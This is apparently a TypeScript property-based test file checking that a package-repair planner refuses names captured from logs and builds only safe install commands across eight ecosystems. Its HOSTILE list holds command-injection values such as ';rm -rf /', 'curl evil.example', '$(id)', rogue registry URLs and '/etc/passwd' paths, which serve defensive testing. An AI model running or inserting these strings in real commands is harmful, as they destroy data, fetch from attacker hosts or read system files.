import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { CoordinatorNode } from '../../model/coordinator.ts'
import type { RepairAnswer, RepairRequest } from '../../ports/repairer.ts'
import { systemicIssue } from '../../../testing/systemic-issue.ts'
import { planFromText } from '../../../testing/plan-text.ts'
import { ecosystemNamed } from './ecosystems/known.ts'
import { NO_FACTS, type Project } from './facts.ts'
import { planRepair } from './repair.ts'

const ECOSYSTEMS = ['npm', 'pip', 'cargo', 'go', 'gem', 'maven', 'gradle', 'composer'] as const

/** What a log may hold: each would do harm, or something else than is meant, on a command line. */
const HOSTILE = [
  ';rm -rf /',
  'jose;rm -rf /',
  'jose && curl evil.example',
  'jose|sh',
  '`id`',
  '$(id)',
  'jose$(id)',
  '${IFS}id',
  '--registry=https://evil.example',
  '-g',
  '-r/etc/passwd',
  'jose --registry=https://evil.example',
  'https://evil.example/x.tgz',
  'git+ssh://evil.example/x',
  'git@evil.example:x/y',
  'file:../x',
  '../x',
  '../../etc/passwd',
  '/etc/passwd',
  './x',
  '.',
  '..',
  'a/../b',
  '@/x',
  '@scope',
  '@scope/',
  '@scope/../x',
  'npm:evil@1.0.0',
  'jose@npm:evil',
  'jose@https://evil.example/x.tgz',
  'jose\nrm -rf /',
  'jose\u0000x',
  'jo\u202ese',
  'j\u043ese',
  'ｊose',
  'jose\u200b',
  '"jose"',
  "'jose'",
  "jose' 'x",
  'jose>x',
  'jose*',
  'jose?',
  '~root',
  '!jose',
  'jose#x',
  'jose\\x',
  'jose x',
  ' jose',
  'jose ',
  '',
  'a'.repeat(10_000),
  `${'a'.repeat(10_000)}!`,
  `${'a.'.repeat(5_000)}`,
  `${'a-'.repeat(99)}!/x`,
  '__proto__;',
]

function node(answer: RepairAnswer): CoordinatorNode | undefined {
  const [op] = 'refusal' in answer ? [] : answer.ops.filter((one) => one.op === 'inject_tasks')
  return op?.op === 'inject_tasks' ? op.tasks[0] : undefined
}

function repair(ecosystem: string, texts: readonly string[], names: Iterable<string>, allow?: string[]): RepairAnswer {
  const known = ecosystemNamed(ecosystem)
  const project: Project = {
    ecosystem,
    folder: '.',
    root: '.',
    manifest: known?.manifests[0] ?? '',
    names: new Set([...names].map((name) => known?.normal(name) ?? name)),
    beside: new Set(),
  }
  const issue = systemicIssue('install_packages', { ecosystem, captures: { package: [...texts] } })
  const request: RepairRequest = {
    execution_id: 'exec-1',
    issue,
    coordinator: planFromText('a'),
    waiting: new Set(['P1.a']),
    at: 0,
    tries: 0,
  }
  const facts = { ...NO_FACTS, projects: new Map([['.', project]]) }
  return planRepair(request, facts, allow === undefined ? undefined : { default: 'auto', allow })
}

test('no hostile text is a name anywhere, though a manifest and the allow-list held it', () => {
  const accepted = ECOSYSTEMS.flatMap((ecosystem) =>
    HOSTILE.filter((text) => node(repair(ecosystem, [text], [text], [text.slice(0, 214)])) !== undefined).map(
      (text) => `${ecosystem} ${text}`,
    ),
  )
  expect(accepted).toEqual([])
})

test('one hostile text among good ones refuses them all, in one line that shows what cannot be seen', () => {
  for (const text of HOSTILE) {
    const answer = repair('npm', ['jose', text], ['jose', text])
    expect('refusal' in answer && answer.refusal).toMatch(/^“[^\p{Cc}\u202e\u200b]*” is no name of a package of npm$/u)
    expect('refusal' in answer ? answer.refusal.length : Infinity).toBeLessThan(200)
  }
})

/** Texts of all kinds, and what looks nearly like a name. */
const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(...HOSTILE),
  fc.stringMatching(/^@?[\w.@/:~-]{1,40}$/),
  fc.tuple(fc.constantFrom('jose', '@a/b', 'x.y'), fc.constantFrom(...HOSTILE)).map(([name, more]) => name + more),
)

/** A name that is one in each ecosystem. */
const HARMLESS: Readonly<Record<string, string>> = {
  go: 'acme.example/kit',
  maven: 'acme:kit',
  gradle: 'acme:kit',
  composer: 'acme/kit',
}

test('whatever a log holds, a command has only plain words: its own, and names that the grammar and the rules let in', () => {
  const commandOf = (ecosystem: string, texts: readonly string[], isAllowed: boolean): string | undefined =>
    node(
      isAllowed
        ? repair(
            ecosystem,
            texts,
            [],
            texts.map((one) => one.slice(0, 214)),
          )
        : repair(ecosystem, texts, texts),
    )?.action.cmd
  const one = fc.record({
    ecosystem: fc.constantFrom(...ECOSYSTEMS),
    texts: fc.array(text, { minLength: 1, maxLength: 4 }),
    isAllowed: fc.boolean(),
  })
  fc.assert(
    fc.property(one, ({ ecosystem, texts, isAllowed }) => {
      const cmd = commandOf(ecosystem, texts, isAllowed)
      if (cmd === undefined) return
      const own = new Set(commandOf(ecosystem, [HARMLESS[ecosystem] ?? 'kit'], isAllowed)?.split(' '))
      const names = new Set(texts.map((captured) => ecosystemNamed(ecosystem)?.packageOf(captured)))
      // Without a quote each blank ends a word, and no shell reads anything into the others.
      for (const word of cmd.split(' ')) {
        expect(own.has(word) || names.has(word)).toBe(true)
        expect(word).toMatch(/^(?:&&|[\w./:=@%+~-]+)$/)
      }
    }),
    { numRuns: 500 },
  )
})

test('names are found in what code asks for', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['npm', 'lodash/fp'],
    ['npm', '@acme/kit/deep/part.js'],
    ['npm', 'JSONStream'],
    ['npm', 'node_modules'],
    ['pip', 'google.protobuf.message'],
    ['pip', 'python-dateutil'],
    ['cargo', 'serde_json::Value'],
    ['go', 'github.com/acme/kit/v2/log'],
    ['gem', 'rack-3.0.8'],
    ['gem', 'rack/utils'],
    ['maven', 'org.acme:kit:jar:1.0-SNAPSHOT'],
    ['composer', 'acme/kit.more'],
  ]
  expect(cases.map(([name, asked]) => `${asked} ⇒ ${ecosystemNamed(name)?.packageOf(asked) ?? 'none'}`).join('\n'))
    .toMatchInlineSnapshot(`
      "lodash/fp ⇒ lodash
      @acme/kit/deep/part.js ⇒ @acme/kit
      JSONStream ⇒ JSONStream
      node_modules ⇒ none
      google.protobuf.message ⇒ google
      python-dateutil ⇒ python-dateutil
      serde_json::Value ⇒ serde_json
      github.com/acme/kit/v2/log ⇒ github.com/acme/kit/v2/log
      rack-3.0.8 ⇒ rack
      rack/utils ⇒ rack
      org.acme:kit:jar:1.0-SNAPSHOT ⇒ org.acme:kit
      acme/kit.more ⇒ acme/kit.more"
    `)
})

test('long texts are refused in no time', () => {
  const long = [
    'a'.repeat(1_000_000),
    'a.'.repeat(500_000),
    'a-'.repeat(500_000),
    'a/'.repeat(500_000),
    '@a'.repeat(500_000),
  ]
  const began = process.cpuUsage().user
  for (const ecosystem of ECOSYSTEMS)
    for (const one of long) expect(ecosystemNamed(ecosystem)?.packageOf(one)).toBeUndefined()
  expect((process.cpuUsage().user - began) / 1000).toBeLessThan(500)
})
